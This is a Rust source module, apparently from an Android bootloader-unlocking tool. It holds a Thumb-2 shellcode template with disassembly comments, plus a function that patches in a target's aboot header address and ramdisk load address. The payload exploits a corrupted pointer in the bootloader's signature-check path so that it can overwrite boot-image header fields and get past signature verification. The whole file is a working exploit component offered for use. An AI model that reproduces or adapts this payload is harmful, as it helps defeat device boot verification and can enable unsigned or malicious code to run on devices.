//! The exploit payload.
//!
//! A fixed Thumb-2 routine that runs when the corrupted pointer in the
//! signature-check path is dereferenced. The template ends with two 4-byte
//! little-endian placeholder words: `0xffffffff` takes the target's
//! aboot-header patch address, `0xeeeeeeee` takes the original image's
//! ramdisk load address. Both are filled in per patch operation; the
//! template itself is never mutated.

use crate::error::{Error, Result};

const HEADER_MARKER: u32 = 0xffff_ffff;
const RAMDISK_MARKER: u32 = 0xeeee_eeee;

#[rustfmt::skip]
pub const PATCH_TEMPLATE: [u8; 64] = [
    0xfe, 0xb5,             // push   {r1-r7, lr}
    0x0d, 0x4d,             // ldr    r5, [pc, #52]
    0xd5, 0xf8, 0x88, 0x04, // ldr.w  r0, [r5, #0x488]
    0xab, 0x68,             // ldr    r3, [r5, #8]
    0x98, 0x42,             // cmp    r0, r3
    0x12, 0xd0,             // beq    done
    0xd5, 0xf8, 0x90, 0x64, // ldr.w  r6, [r5, #0x490]
    0x0a, 0x4c,             // ldr    r4, [pc, #40]
    0xd5, 0xf8, 0x8c, 0x74, // ldr.w  r7, [r5, #0x48c]
    0x07, 0xf5, 0x80, 0x57, // add.w  r7, r7, #0x1000
    0x0f, 0xce,             // ldmia  r6!, {r0-r3}
    0x0f, 0xc4,             // stmia  r4!, {r0-r3}
    0x10, 0x3f,             // subs   r7, #16
    0xfb, 0xdc,             // bgt    copy loop
    0xd5, 0xf8, 0x88, 0x04, // ldr.w  r0, [r5, #0x488]
    0x04, 0x49,             // ldr    r1, [pc, #16]
    0xd5, 0xf8, 0x8c, 0x24, // ldr.w  r2, [r5, #0x48c]
    0xa8, 0x60,             // str    r0, [r5, #8]
    0x69, 0x61,             // str    r1, [r5, #20]
    0x2a, 0x61,             // str    r2, [r5, #16]
    0x00, 0x20,             // movs   r0, #0
    0xfe, 0xbd,             // pop    {r1-r7, pc}
    0xff, 0xff, 0xff, 0xff, // -> aboot header patch address
    0xee, 0xee, 0xee, 0xee, // -> original ramdisk load address
];

/// Instantiate the template for one target.
///
/// Walks a 4-byte window over a fresh copy at byte granularity and
/// substitutes each placeholder word. If either marker is never seen the
/// template constant has been corrupted, which is a bug here, not a
/// problem with the caller's addresses.
pub fn generate(header_addr: u32, ramdisk_addr: u32) -> Result<Vec<u8>> {
    let mut code = PATCH_TEMPLATE.to_vec();
    let mut found_header = false;
    let mut found_ramdisk = false;

    let mut i = 0;
    while i + 4 <= code.len() {
        let word = u32::from_le_bytes([code[i], code[i + 1], code[i + 2], code[i + 3]]);
        if word == HEADER_MARKER {
            code[i..i + 4].copy_from_slice(&header_addr.to_le_bytes());
            found_header = true;
            i += 4;
            continue;
        }
        if word == RAMDISK_MARKER {
            code[i..i + 4].copy_from_slice(&ramdisk_addr.to_le_bytes());
            found_ramdisk = true;
            i += 4;
            continue;
        }
        i += 1;
    }

    if found_header && found_ramdisk {
        Ok(code)
    } else {
        Err(Error::ShellcodeGeneration)
    }
}
